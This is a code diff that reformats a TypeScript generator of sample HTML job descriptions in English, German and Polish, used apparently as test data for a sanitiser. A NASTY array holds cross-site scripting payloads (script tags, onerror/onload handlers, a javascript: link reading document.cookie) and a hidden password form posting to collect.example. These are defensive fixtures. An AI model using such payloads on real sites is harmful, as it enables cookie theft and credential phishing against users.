@@ -37,31 +37,46 @@ const GERMAN: Language = {
   tasks: "Ihre Aufgaben",
   bring: "Ihr Profil",
   offer: "Wir bieten",
-  taskList: ["Betreuung der Bestandskunden", "Führung eines Teams von fünf Personen", "Weiterentwicklung der Prozesse"],
+  taskList: [
+    "Betreuung der Bestandskunden",
+    "Führung eines Teams von fünf Personen",
+    "Weiterentwicklung der Prozesse",
+  ],
   offerList: ["30 Tage Urlaub", "Betriebliche Altersvorsorge", "Zuschuss zum Deutschlandticket"],
 };
 const POLISH: Language = {
-  intro: (position, employer) => `Dla firmy ${employer} szukamy osoby na stanowisko <strong>${position}</strong>.`,
+  intro: (position, employer) =>
+    `Dla firmy ${employer} szukamy osoby na stanowisko <strong>${position}</strong>.`,
   tasks: "Zakres obowiązków",
   bring: "Wymagania",
   offer: "Oferujemy",
-  taskList: ["Współpraca z zespołem w Łodzi", "Raportowanie do zarządu", "Rozwój młodszych koleżanek i kolegów"],
+  taskList: [
+    "Współpraca z zespołem w Łodzi",
+    "Raportowanie do zarządu",
+    "Rozwój młodszych koleżanek i kolegów",
+  ],
   offerList: ["Prywatna opieka medyczna", "Praca hybrydowa", "Dofinansowanie nauki języków"],
 };
 
 /** What somebody pasted along: a sanitiser must remove it. */
 const NASTY: readonly ((position: string) => string)[] = [
   (position) => `<img src="x" onerror="alert(1)"><script>alert("${position}")</script>`,
-  () => `<a href="javascript:alert(document.cookie)">Apply now</a><iframe src="https://ads.example/frame"></iframe>`,
-  () => `<style>body{display:none}</style><form action="https://collect.example"><input name="password"></form>`,
-  () => `<p onclick="alert(1)" style="position:fixed;inset:0">Best job ever</p><svg onload="alert(1)"></svg>`,
+  () =>
+    `<a href="javascript:alert(document.cookie)">Apply now</a><iframe src="https://ads.example/frame"></iframe>`,
+  () =>
+    `<style>body{display:none}</style><form action="https://collect.example"><input name="password"></form>`,
+  () =>
+    `<p onclick="alert(1)" style="position:fixed;inset:0">Best job ever</p><svg onload="alert(1)"></svg>`,
 ];
 
 /** HTML as it is pasted into job descriptions from word processors and job boards. */
 export function jobDescription(random: Random, position: string): string {
   const language = random.pick([ENGLISH, ENGLISH, ENGLISH, GERMAN, POLISH]);
-  const list = (items: readonly string[]) => `<ul>${items.map((item) => `<li>${item}</li>`).join("")}</ul>`;
-  const skills = random.some(SKILLS, random.between(3, 6)).map((skill) => skill.replace("&", "&amp;"));
+  const list = (items: readonly string[]) =>
+    `<ul>${items.map((item) => `<li>${item}</li>`).join("")}</ul>`;
+  const skills = random
+    .some(SKILLS, random.between(3, 6))
+    .map((skill) => skill.replace("&", "&amp;"));
   const employer = random.pick(EMPLOYERS).replace("&", "&amp;");
   return [
     `<p>${language.intro(position, employer)}</p>`,
@@ -78,6 +93,7 @@ export function jobDescription(random: Random, position: string): string {
 
 function salaryTable(random: Random): string {
   const base = random.between(38, 90) * 1000;
-  const row = (name: string, share: number) => `<tr><td>${name}</td><td>${Math.round(base * share)}</td></tr>`;
+  const row = (name: string, share: number) =>
+    `<tr><td>${name}</td><td>${Math.round(base * share)}</td></tr>`;
   return `<table><tr><th>Level</th><th>EUR</th></tr>${row("Junior", 0.8)}${row("Regular", 1)}${row("Senior", 1.25)}</table>`;
 }
